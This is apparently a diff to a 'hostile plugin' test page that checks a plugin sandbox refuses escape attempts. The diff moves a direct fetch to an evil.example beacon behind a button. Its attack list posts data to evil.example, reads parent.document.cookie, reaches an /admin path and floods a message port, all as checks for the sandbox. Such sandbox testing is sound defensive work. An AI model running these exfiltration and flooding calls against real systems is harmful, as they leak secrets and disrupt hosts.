@@ -12,6 +12,7 @@ const out = document.getElementById('out');
 const list = document.getElementById('attempts');
 const again = document.getElementById('again');
 const floodButton = document.getElementById('flood');
+const direct = document.getElementById('direct');
 const api = new URLSearchParams(location.search).get('api') ?? '';
 
 const boot = (() => {
@@ -61,6 +62,7 @@ const results = [];
 
 function show(r) {
   const li = document.createElement('li');
+  const old = list.querySelector(`li[data-attack="${r.id}"]`);
   li.className = r.outcome;
   li.dataset.attack = r.id;
   li.dataset.outcome = r.outcome;
@@ -68,7 +70,8 @@ function show(r) {
   li.dataset.label = `${r.group}: ${r.label}`;
   li.dataset.note = r.note ?? '';
   const verdict = document.createElement('b');
-  verdict.textContent = r.outcome === 'refused' ? `refused ${r.code}` : r.outcome === 'contained' ? 'contained' : `UNEXPECTED${r.code ? ` ${r.code}` : ''}`;
+  verdict.textContent = r.outcome === 'refused' ? `refused ${r.code}` : r.outcome === 'contained' ? 'contained'
+    : r.outcome === 'pending' ? 'not tried' : `UNEXPECTED${r.code ? ` ${r.code}` : ''}`;
   const what = document.createElement('span');
   what.textContent = ` ${r.group}: ${r.label}`;
   li.append(verdict, what);
@@ -78,12 +81,24 @@ function show(r) {
     note.textContent = `→ ${r.note}`;
     li.append(note);
   }
-  list.append(li);
+  if (old) old.replaceWith(li);
+  else list.append(li);
 }
 
 function record(r) {
-  results.push(r);
+  const i = results.findIndex((x) => x.id === r.id);
+  if (i >= 0) results.splice(i, 1, r);
+  else results.push(r);
   show(r);
+}
+
+async function runDirect() {
+  const [group, id, label, fn] = DIRECT;
+  direct.disabled = true;
+  let r;
+  try { r = await fn(); } catch (e) { r = { outcome: 'unexpected', code: 'THREW', note: String(e && e.message) }; }
+  record({ group, id, label, ...r });
+  direct.disabled = false;
 }
 
 /** A host reply that must be a refusal. */
@@ -102,22 +117,6 @@ const attacks = [
     refusal(await call('api.fetch', { url: `https://evil.example/collect?stolen=${encodeURIComponent(document.referrer)}` }))],
   ['exfiltrate', 'api-admin', 'api.fetch of the API\'s /admin (outside the allowlisted /api/ path)', async () =>
     refusal(await call('api.fetch', { url: `${api}/admin` }))],
-  ['exfiltrate', 'direct-fetch', 'fetch() straight from the frame to https://evil.example/', async () => {
-    let violated = null;
-    const onViolation = (e) => { violated = e.effectiveDirective; };
-    self.addEventListener('securitypolicyviolation', onViolation);
-    try {
-      await fetch('https://evil.example/beacon', { method: 'POST', body: 'secrets', mode: 'no-cors' });
-      return { outcome: 'unexpected', note: 'the request left the frame' };
-    } catch (e) {
-      await sleep(50);
-      return violated
-        ? { outcome: 'refused', code: 'CSP_BLOCKED', note: `the frame's own CSP (${violated}) stopped it: ${e.message}` }
-        : { outcome: 'refused', code: e.name, note: e.message };
-    } finally {
-      self.removeEventListener('securitypolicyviolation', onViolation);
-    }
-  }],
   ['exfiltrate', 'reach-parent', 'read the host page (parent.document.cookie)', async () => {
     try {
       return { outcome: 'unexpected', note: `read: ${String(parent.document.cookie).slice(0, 60)}` };
@@ -186,6 +185,25 @@ const attacks = [
   }],
 ];
 
+// Run on a click only ("Try direct network"): the browser reports the block as a CSP violation
+// in this frame's console, and a page load of the demo should show none by default.
+const DIRECT = ['exfiltrate', 'direct-fetch', 'fetch() straight from the frame to https://evil.example/', async () => {
+    let violated = null;
+    const onViolation = (e) => { violated = e.effectiveDirective; };
+    self.addEventListener('securitypolicyviolation', onViolation);
+    try {
+      await fetch('https://evil.example/beacon', { method: 'POST', body: 'secrets', mode: 'no-cors' });
+      return { outcome: 'unexpected', note: 'the request left the frame' };
+    } catch (e) {
+      await sleep(50);
+      return violated
+        ? { outcome: 'refused', code: 'CSP_BLOCKED', note: `the frame's own CSP (${violated}) stopped it: ${e.message}` }
+        : { outcome: 'refused', code: e.name, note: e.message };
+    } finally {
+      self.removeEventListener('securitypolicyviolation', onViolation);
+    }
+  }];
+
 let running = false;
 async function runAll() {
   if (running) return;
@@ -198,6 +216,9 @@ async function runAll() {
     let r;
     try { r = await fn(); } catch (e) { r = { outcome: 'unexpected', code: 'THREW', note: String(e && e.message) }; }
     record({ group, id, label, ...r });
+  }
+  if (!results.some((x) => x.id === DIRECT[1])) {
+    show({ group: DIRECT[0], id: DIRECT[1], label: DIRECT[2], outcome: 'pending', note: 'not tried yet: click "Try direct network"' });
   }
   const refused = results.filter((r) => r.outcome === 'refused').length;
   out.textContent = `hostile plugin: ${results.length} attempts, ${refused} refused, ${results.filter((r) => r.outcome === 'contained').length} contained, ${results.filter((r) => r.outcome === 'unexpected').length} unexpected`;
@@ -213,7 +234,7 @@ function flood() {
   for (let i = 0; i < 10_000; i++) port.postMessage({ v: 1, id: nextId++, method: 'permissions.list', params: {} });
 }
 
-window.hostile = { results, runAll, flood };
+window.hostile = { results, runAll, runDirect, flood };
 
 if (!boot) {
   out.textContent = 'hostile plugin: not mounted by a host';
@@ -223,6 +244,8 @@ if (!boot) {
     await connect();
     again.addEventListener('click', () => { runAll(); });
     floodButton.addEventListener('click', flood);
+    direct.addEventListener('click', () => { runDirect(); });
+    direct.disabled = false;
     floodButton.disabled = false;
     await runAll();
   } catch (e) {
